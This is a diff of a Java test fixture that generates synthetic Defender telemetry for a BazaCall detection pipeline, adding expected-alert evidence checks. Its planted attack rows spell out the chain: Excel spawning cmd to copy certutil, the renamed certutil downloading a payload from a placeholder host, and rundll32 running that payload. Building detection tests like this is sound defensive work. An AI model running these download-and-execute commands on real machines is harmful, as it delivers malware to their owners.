@@ -1,22 +1,21 @@
 package dev.bazahunt.job.testing;
 
+import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.databind.node.ArrayNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
-import dev.bazahunt.alert.AlertIds;
-import dev.bazahunt.correlation.ProcessInstanceKey;
-import dev.bazahunt.rules.RuleIds;
-import dev.bazahunt.telemetry.DefenderTimestamps;
-import dev.bazahunt.telemetry.DeviceFileEvent;
+import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.time.Duration;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.Comparator;
 import java.util.HexFormat;
 import java.util.List;
+import java.util.Map;
 import java.util.Random;
 import java.util.Set;
-import java.util.TreeSet;
+import java.util.TreeMap;
 
 /**
  * A fleet's Defender telemetry as the Streaming API delivers it: Event Hubs messages of up to 10 rows,
@@ -25,21 +24,66 @@ import java.util.TreeSet;
  * download by cmd's certutil, benign Excel children) it plants complete BazaCall chains: Excel spawns
  * {@code cmd /c mkdir … && copy …certutil.exe …}, the renamed copy downloads a payload and writes its
  * two CryptnetUrlCache entries, and two minutes later Excel runs the payload with rundll32
- * {@code ,GlobalOut}. Each chain gives exactly one base and one correlated alert, whose AlertIds are
- * known in advance because they are name-based UUIDs of the rule id and the process instance.
+ * {@code ,GlobalOut}. Each chain gives exactly one base and one correlated alert. Their AlertIds are
+ * known in advance (README's recipe, {@link AlertIdRecipe}), and so is their evidence: the download's
+ * rows and files, and every Excel child on the device within the window, with its stage and link
+ * ({@link #expectedAlerts()}).
  */
 public final class BazaCallFleetTelemetry {
     private static final ObjectMapper JSON = new ObjectMapper();
     private static final String TENANT = "3f2b9c1e-5d7a-4a1b-9c2d-7e5f1a2b3c4d";
     private static final int ROWS_PER_MESSAGE = 10;
     private static final long RENAMED_CERTUTIL_PID = 7212;
+    private static final String CERTUTIL_DOWNLOAD = "f5ff5b00-a90e-40b8-b241-9427a8ec5189";
+    private static final String BAZACALL_CORRELATION = "6115fe87-e990-4ade-b52f-b35ebea0864d";
+    /** The stream's default correlation window, which the tests that use this fleet keep. */
+    private static final Duration WINDOW = Duration.ofMinutes(30);
+
+    /**
+     * What one alert must hold, read off the rows planted for it: its rule, the ReportIds and files of
+     * the download, and, for a correlated alert, its link strength and each Excel child as
+     * {@code "<ReportId> <Stage> <Link>"}, in ReportId order.
+     */
+    public record ExpectedAlert(String ruleId, List<Long> reportIds, List<String> droppedFiles, String linkStrength,
+            List<String> excelChildren) {
+        /** The facts of each alert the job wrote, by AlertId. */
+        public static Map<String, ExpectedAlert> of(Map<String, String> alertsById) {
+            Map<String, ExpectedAlert> facts = new TreeMap<>();
+            alertsById.forEach((id, json) -> facts.put(id, of(json)));
+            return facts;
+        }
+
+        /** The same facts, taken from an alert the job wrote. */
+        public static ExpectedAlert of(String alertJson) {
+            JsonNode alert;
+            try {
+                alert = JSON.readTree(alertJson);
+            } catch (IOException e) {
+                throw new UncheckedIOException(e);
+            }
+            List<Long> reportIds = new ArrayList<>();
+            alert.path("ReportIds").forEach(id -> reportIds.add(id.asLong()));
+            List<String> dropped = new ArrayList<>();
+            alert.path("DroppedFiles").forEach(file -> dropped.add(file.asText()));
+            Map<Long, String> children = new TreeMap<>();
+            alert.path("Evidence").forEach(child -> children.put(child.get("ReportId").asLong(),
+                    child.get("ReportId").asLong() + " " + child.get("Stage").asText() + " " + child.get("Link").asText()));
+            return new ExpectedAlert(alert.get("RuleId").asText(), reportIds, dropped,
+                    alert.hasNonNull("LinkStrength") ? alert.get("LinkStrength").asText() : null,
+                    List.copyOf(children.values()));
+        }
+    }
+
+    /** An Excel child the noise put on some device: it is evidence of any chain on that device nearby. */
+    private record NoiseExcelChild(String device, Instant at, long reportId) {}
 
     /** One Event Hubs message: its Kafka key and its {@code {"records":[…]}} body. */
     public record Message(String deviceId, String body) {}
 
     private final List<Message> messages;
     private final int rowCount;
-    private final Set<String> expectedAlertIds = new TreeSet<>();
+    private final Map<String, ExpectedAlert> expectedAlerts = new TreeMap<>();
+    private final List<NoiseExcelChild> noiseExcelChildren = new ArrayList<>();
     private final Instant end;
     private long nextReportId = 40_000;
 
@@ -95,7 +139,12 @@ public final class BazaCallFleetTelemetry {
 
     /** The base and correlated AlertIds of every planted chain, and nothing else. */
     public Set<String> expectedAlertIds() {
-        return expectedAlertIds;
+        return expectedAlerts.keySet();
+    }
+
+    /** Every alert the fleet must raise, by AlertId, with the evidence it must hold. */
+    public Map<String, ExpectedAlert> expectedAlerts() {
+        return expectedAlerts;
     }
 
     /**
@@ -117,8 +166,7 @@ public final class BazaCallFleetTelemetry {
                 case 0 -> nearMissCrlFetch(device, rowAt);
                 case 1 -> cryptnetCacheDecoy(device, rowAt);
                 case 2 -> httpsDownloadByCmd(device, rowAt);
-                case 3 -> TestRows.excelChild(device, rowAt, reportId(), 9000 + random.nextInt(2000), "splwow64.exe",
-                        "splwow64.exe 8192");
+                case 3 -> noiseExcelChild(device, rowAt, random);
                 case 4, 5, 6, 7, 8 -> processStart(device, rowAt, random);
                 default -> TestRows.benign(device, rowAt, reportId());
             });
@@ -135,11 +183,12 @@ public final class BazaCallFleetTelemetry {
                         + " && " + folder + "\\" + renamed + " -urlcache -split -f http://d" + chain + "x.xyz/g.php " + payload);
 
         Instant downloadAt = at.plusSeconds(3);
-        String processCreation = TestRows.nanos(downloadAt.minusMillis(150));
+        Instant processCreation = downloadAt.minusMillis(150);
         List<ObjectNode> download = new ArrayList<>();
         String[] written = {payload,
                 "C:\\Users\\m.ortiz\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\" + cacheName(chain),
                 "C:\\Users\\m.ortiz\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\MetaData\\" + cacheName(chain)};
+        List<Long> downloadReportIds = new ArrayList<>();
         for (int i = 0; i < written.length; i++) {
             ObjectNode row = TestRows.download(device, downloadAt.plusMillis(100L * i), reportId());
             row.put("FolderPath", written[i]);
@@ -148,22 +197,43 @@ public final class BazaCallFleetTelemetry {
             row.put("InitiatingProcessFolderPath", folder.toLowerCase() + "\\" + renamed);
             row.put("InitiatingProcessCommandLine",
                     renamed + "  -urlcache -split -f http://d" + chain + "x.xyz/g.php " + payload);
-            row.put("InitiatingProcessCreationTime", processCreation);
+            row.put("InitiatingProcessCreationTime", TestRows.nanos(processCreation));
+            // The renamed certutil's parent is the shell Excel spawned: the chain's lineage.
+            row.put("InitiatingProcessParentId", copy.get("ProcessId").asLong());
+            row.put("InitiatingProcessParentCreationTime", copy.get("ProcessCreationTime").asText());
             download.add(row);
+            downloadReportIds.add(row.get("ReportId").asLong());
         }
         ObjectNode run = TestRows.excelChild(device, at.plusSeconds(120), reportId(), 7388, "rundll32.exe",
                 "rundll32.exe " + payload + ",GlobalOut");
 
-        DeviceFileEvent instance = new DeviceFileEvent();
-        instance.deviceId = device;
-        instance.initiatingProcessId = RENAMED_CERTUTIL_PID;
-        instance.initiatingProcessCreationTime = DefenderTimestamps.parseNanos(processCreation);
-        String key = ProcessInstanceKey.of(instance);
-        expectedAlertIds.add(AlertIds.of(RuleIds.CERTUTIL_DOWNLOAD, key));
-        expectedAlertIds.add(AlertIds.of(RuleIds.BAZACALL_CORRELATION, key));
+        String base = AlertIdRecipe.forProcess(CERTUTIL_DOWNLOAD, device, RENAMED_CERTUTIL_PID, processCreation);
+        String correlated = AlertIdRecipe.forProcess(BAZACALL_CORRELATION, device, RENAMED_CERTUTIL_PID, processCreation);
+        expectedAlerts.put(base, new ExpectedAlert(CERTUTIL_DOWNLOAD, downloadReportIds, List.of(written), null, List.of()));
+        Instant first = downloadAt;
+        Instant last = downloadAt.plusMillis(100L * (written.length - 1));
+        // The noise is generated first, so every Excel child near the download is known here.
+        Map<Long, String> children = new TreeMap<>();
+        children.put(copy.get("ReportId").asLong(), copy.get("ReportId").asLong() + " certutil-copied lineage");
+        children.put(run.get("ReportId").asLong(), run.get("ReportId").asLong() + " payload-executed device-window");
+        for (NoiseExcelChild child : noiseExcelChildren) {
+            if (child.device().equals(device) && !child.at().isBefore(first.minus(WINDOW))
+                    && !child.at().isAfter(last.plus(WINDOW))) {
+                children.put(child.reportId(), child.reportId() + " excel-child device-window");
+            }
+        }
+        expectedAlerts.put(correlated, new ExpectedAlert(BAZACALL_CORRELATION, downloadReportIds, List.of(written),
+                "lineage", List.copyOf(children.values())));
 
         return List.of(new Burst(at, device, List.of(copy)), new Burst(downloadAt, device, download),
                 new Burst(at.plusSeconds(120), device, List.of(run)));
+    }
+
+    /** Excel's print helper on a random device: noise, and evidence when it lands near a chain. */
+    private ObjectNode noiseExcelChild(String device, Instant at, Random random) {
+        long reportId = reportId();
+        noiseExcelChildren.add(new NoiseExcelChild(device, at, reportId));
+        return TestRows.excelChild(device, at, reportId, 9000 + random.nextInt(2000), "splwow64.exe", "splwow64.exe 8192");
     }
 
     private static String cacheName(int chain) {
